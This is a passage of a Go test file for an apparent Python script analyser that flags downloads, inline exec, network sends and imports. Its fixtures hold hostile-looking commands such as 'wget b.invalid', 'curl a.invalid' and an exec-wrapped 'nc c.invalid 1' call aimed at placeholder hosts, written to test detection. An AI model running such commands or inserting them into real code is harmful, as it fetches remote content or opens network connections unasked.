		{Kind: KindDownload, Line: 7, Column: 1, Text: "wget b.invalid", Detail: "wget b.invalid"},
		{Kind: KindInlineCode, Line: 8, Column: 1, Text: "exec('import os; os.system(\"nc c.invalid 1\")')", Detail: "exec"},
		{Kind: KindPost, Line: 8, Column: 29, Text: "nc c.invalid 1", Detail: "nc"},
		{Kind: KindHostIdentity, Line: 9, Column: 7, Text: "if x: os.getlogin()", Detail: "os.getlogin"},
	}
	if diff := cmp.Diff(want, ParseScript(LanguagePython, text, "x.py").Acts); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

func TestPythonImports(t *testing.T) {
	text := "import json, pkg.core as c\nfrom helper import x\nfrom . import near\nfrom ..up import y\n" +
		"__import__('la' + 'te')\nfrom .a.b import (c,\n  d)\nimport json\n"
	var got []string
	for _, f := range ParseScript(LanguagePython, text, "pkg/sub/x.py").Imports {
		got = append(got, fmt.Sprintf("%s %d", f.Path, f.Line))
	}
	want := []string{"pkg/sub/json 1", "pkg/sub/pkg/core 1", "pkg/sub/helper 2", "pkg/sub 3", "pkg/sub/near 3", "pkg/up 4",
		"pkg/sub/late 5", "pkg/sub/a/b 6"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

// TestPythonWork makes sure that what is read again and again, and is given up
// then, is read once nevertheless.
func TestPythonWork(t *testing.T) {
	var b strings.Builder
	b.WriteString("import os\ndef f0(x): return x\n")
	for i := range 7 {
		fmt.Fprintf(&b, "def f%d(x):\n%s    return 1\n", i+1, strings.Repeat(fmt.Sprintf("    f%d(x)\n", i), 40))
	}
	b.WriteString("f7(1)\ndef late():\n    os.system('curl a.invalid')\n[os.system('wget b.invalid') for x in range(16000)]\n")
	s := ParseScript(LanguagePython, b.String(), "x.py")
	want := []string{"download: wget b.invalid", "download: curl a.invalid", "host a.invalid", "host b.invalid"}
	if diff := cmp.Diff(want, describe(s)); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
}

func TestPythonErrors(t *testing.T) {
	s := ParseScript(LanguagePython, "x = '''a\nimport os\nos.system('curl a.invalid')\n", "x.py")
	want := []string{"download: curl a.invalid", "host a.invalid", "error"}
	if diff := cmp.Diff(want, describe(s)); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
	if want := "line 1: a string is not closed"; s.Err != want {
		t.Errorf("Err is %q, want %q", s.Err, want)
	}
	deep := ParseScript(LanguagePython, strings.Repeat("(", 300)+strings.Repeat(")", 300), "x.py")
	if want := []string{"expressions nested more than 200 levels deep"}; !slices.Equal(deep.Limits, want) {
		t.Errorf("Limits are %q, want %q", deep.Limits, want)
	}
	nested := "os.system('id')"
	for range MaxDepth + 1 {
		nested = "exec(" + strconv.Quote(nested) + ")"
	}
	if s := ParseScript(LanguagePython, nested, "x.py"); !slices.Contains(s.Limits, "programs nested more than 5 levels deep") {
		t.Errorf("Limits are %q", s.Limits)
	}
}
